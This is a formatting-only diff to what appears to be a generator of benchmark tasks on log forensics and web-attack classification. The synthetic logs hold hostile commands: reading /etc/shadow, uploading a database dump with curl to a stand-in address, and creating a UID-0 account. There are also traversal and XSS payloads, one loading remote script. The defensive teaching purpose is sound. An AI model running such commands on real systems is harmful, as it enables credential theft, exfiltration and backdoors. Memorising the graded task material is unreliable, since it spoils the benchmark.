@@ -101,7 +101,11 @@ def auth_forensics(seed: int, context: Context) -> Draft:
     log.accepted(150_100, honest, "198.51.100.23")
     before, after = rng.sample(("/usr/bin/apt update", "/bin/journalctl -n 50", "/usr/bin/lsof -i"), 2)
     log.sudo(fallen - 900, victim, before)
-    done = ["/usr/bin/cat /etc/shadow", f"/usr/bin/curl -T /srv/db-{seed}.dump 203.0.113.1", "/usr/sbin/useradd -o -u 0 svc"]
+    done = [
+        "/usr/bin/cat /etc/shadow",
+        f"/usr/bin/curl -T /srv/db-{seed}.dump 203.0.113.1",
+        "/usr/sbin/useradd -o -u 0 svc",
+    ]
     rng.shuffle(done)
     for number, command in enumerate(done):
         log.sudo(fallen + 60 + number * 45, victim, command)
@@ -191,7 +195,14 @@ _PATTERNS = {
     "traversal": ("../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "static/../../config.yml"),
     "xss": ("<script>alert(1)</script>", '"><ScRiPt src=//203.0.113.9/x.js>'),
 }
-_PAGES = ("/", "/shop", "/shop/item?id=12", "/search?q=union+workers+select+committee", "/docs/a..b/c", "/cart?x=script")
+_PAGES = (
+    "/",
+    "/shop",
+    "/shop/item?id=12",
+    "/search?q=union+workers+select+committee",
+    "/docs/a..b/c",
+    "/cart?x=script",
+)
 _WEB_SOLUTION = r"""
 import glob, gzip, json, re
 from urllib.parse import unquote_plus
@@ -261,20 +272,24 @@ def web_injection(seed: int, context: Context) -> Draft:
             host = f"www{rng.randint(1, 2)}.shop.example " if seed == 2 else ""
             shown = "-" if size == 0 else size
             lines.append(
-                f'{host}{address} - - [{day:02}/Jun/2025:{clock} +0000] "GET {target} HTTP/1.1" {status} {shown} "-" "Mozilla/5.0"'
+                f'{host}{address} - - [{day:02}/Jun/2025:{clock} +0000] "GET {target} HTTP/1.1" {status} {shown} '
+                f'"-" "Mozilla/5.0"'
             )
     expected = [[a, *r] for a, r in sorted(rows.items(), key=lambda item: (-item[1][3], item[0]))]
     shape = {
         1: "JSON objects, one a line (`ip`, `uri`, `status`, `bytes`)",
         2: "the combined format with the name of the virtual host before it",
     }.get(seed, "the combined format")
-    parts = {f"/work/logs/access.log{end}": lines[a:b] for end, a, b in (("", 180, 260), (".1", 90, 180), (".2", 0, 90))}
+    parts = {
+        f"/work/logs/access.log{end}": lines[a:b] for end, a, b in (("", 180, 260), (".1", 90, 180), (".2", 0, 90))
+    }
     return Draft(
         family="web_injection",
         seed=seed,
         difficulty="hard",
         instruction=f"We think the shop was probed and lost data. /work/logs holds access.log and its rotated, partly "
-        f"compressed predecessors, in {shape}. Classify every request by its target: undo percent-encoding (and `+` for "
+        f"compressed predecessors, in {shape}. Classify every request by its target: undo percent-encoding (and "
+        f"`+` for "
         "a space) again and again until nothing changes, ignore case, take `/**/` as a space and a backslash as a "
         "slash. Then it is\n"
         "  sql when `union select` or `' or ` (quote, space, or, space) occurs,\n"
@@ -287,11 +302,7 @@ def web_injection(seed: int, context: Context) -> Draft:
         files=tuple(TaskFile(path=path, text="\n".join(part) + "\n") for path, part in parts.items()),
         setup=("gzip -n /work/logs/access.log.2",),
         solution=(python(_WEB_SOLUTION),),
-        right=(
-            Variant(
-                name="crlf_lines", commands=(python(_WEB_SOLUTION), "sed -i 's/$/\\r/' /work/attempts.tsv")
-            ),
-        ),
+        right=(Variant(name="crlf_lines", commands=(python(_WEB_SOLUTION), "sed -i 's/$/\\r/' /work/attempts.tsv")),),
         weak=(
             Variant(
                 name="decoded_once",
@@ -299,7 +310,10 @@ def web_injection(seed: int, context: Context) -> Draft:
                     python(
                         changed(
                             _WEB_SOLUTION,
-                            ("while (decoded := unquote_plus(target)) != target:\n            target = decoded", "target = unquote_plus(target)"),
+                            (
+                                "while (decoded := unquote_plus(target)) != target:\n            target = decoded",
+                                "target = unquote_plus(target)",
+                            ),
                         )
                     ),
                 ),
